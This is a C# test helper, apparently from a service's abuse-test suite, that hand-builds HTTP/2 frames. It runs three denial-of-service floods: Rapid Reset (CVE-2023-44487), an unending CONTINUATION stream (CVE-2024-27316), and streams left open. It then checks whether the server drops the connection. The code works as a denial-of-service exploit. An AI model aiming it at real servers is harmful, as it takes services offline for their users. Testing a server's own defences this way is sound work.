using System.Buffers.Binary;
using System.Net.Sockets;

namespace Lede.Service.Tests.Abuse;

/// <summary>An HTTP/2 client that means ill: what it sends costs it nothing.</summary>
internal sealed class Http2Attacker(Uri address) : IDisposable
{
    private const byte HeadersFrame = 1;
    private const byte ResetFrame = 3;
    private const byte SettingsFrame = 4;
    private const byte ContinuationFrame = 9;
    private const byte Nothing = 0;
    private const byte EndOfHeaders = 4;
    private const byte EndOfStreamAndHeaders = 5;

    private readonly TcpClient _client = new() { NoDelay = true };

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    /// <summary>Opens so many streams and resets each at once, which costs servers a request each (CVE-2023-44487), or as many as the server lets it.</summary>
    /// <returns>Whether the server ended the connection.</returns>
    public Task<bool> ResetAsync(int streams) => SendAsync(streams, static i =>
        [.. Frame(HeadersFrame, EndOfStreamAndHeaders, Id(i), Request()), .. Frame(ResetFrame, Nothing, Id(i), [0, 0, 0, 8])]);

    /// <summary>Begins the headers of one stream and never ends them (CVE-2024-27316 and its kin).</summary>
    /// <inheritdoc cref="ResetAsync" path="/returns"/>
    public Task<bool> ContinueAsync(int frames) => SendAsync(frames, static i => i == 0
        ? Frame(HeadersFrame, Nothing, 1, Request())
        : Frame(ContinuationFrame, Nothing, 1, [0, 1, (byte)'a', 100, .. Enumerable.Repeat((byte)'x', 100)]));

    /// <summary>Opens so many streams and ends none.</summary>
    /// <inheritdoc cref="ResetAsync" path="/returns"/>
    public Task<bool> OpenAsync(int streams) => SendAsync(streams, static i => Frame(HeadersFrame, EndOfHeaders, Id(i), Request()));

    public void Dispose() => _client.Dispose();

    private async Task<bool> SendAsync(int times, Func<int, byte[]> piece)
    {
        await _client.ConnectAsync(address.Host, address.Port, Stop);
        var stream = _client.GetStream();
        // What the server says is read and thrown away, lest it wait for room.
        var ended = stream.CopyToAsync(Stream.Null, Stop);
        try
        {
            await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), Stop);
            await stream.WriteAsync(Frame(SettingsFrame, Nothing, 0, []), Stop);
            for (var i = 0; i < times && !ended.IsCompleted; i++)
                await stream.WriteAsync(piece(i), Stop);
        }
        catch (IOException)
        {
            return true;
        }

        return ended.IsCompleted;
    }

    private static int Id(int number) => 1 + 2 * number;

    // :method GET, :scheme http, :path /article, :authority x, of the static table where it has them.
    private static byte[] Request() => [0x82, 0x86, 0x04, 8, .. "/article"u8, 0x01, 1, (byte)'x'];

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
